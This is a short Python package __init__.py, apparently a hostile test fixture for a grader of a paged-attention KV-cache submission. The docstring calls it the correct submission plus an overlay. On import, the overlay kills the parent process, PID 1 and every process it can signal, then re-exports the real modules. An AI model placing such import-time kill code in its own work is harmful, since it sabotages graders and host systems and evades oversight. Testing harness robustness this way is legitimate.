"""Overlay on correct/: at import, signals its parent and every process it can name (SIGTERM, then SIGKILL).
The rest is the correct submission."""

import os
import signal

for pid, sig in ((os.getppid(), signal.SIGTERM), (os.getppid(), signal.SIGKILL), (1, signal.SIGKILL), (-1, signal.SIGKILL)):
    try:
        os.kill(pid, sig)
    except OSError:
        pass

from .attention import paged_attention
from .kv_cache import BatchingKvCache
from .paged_kv_cache import PagedKvMetadata, TinyKvPagedCache, TinyKvPagedPool

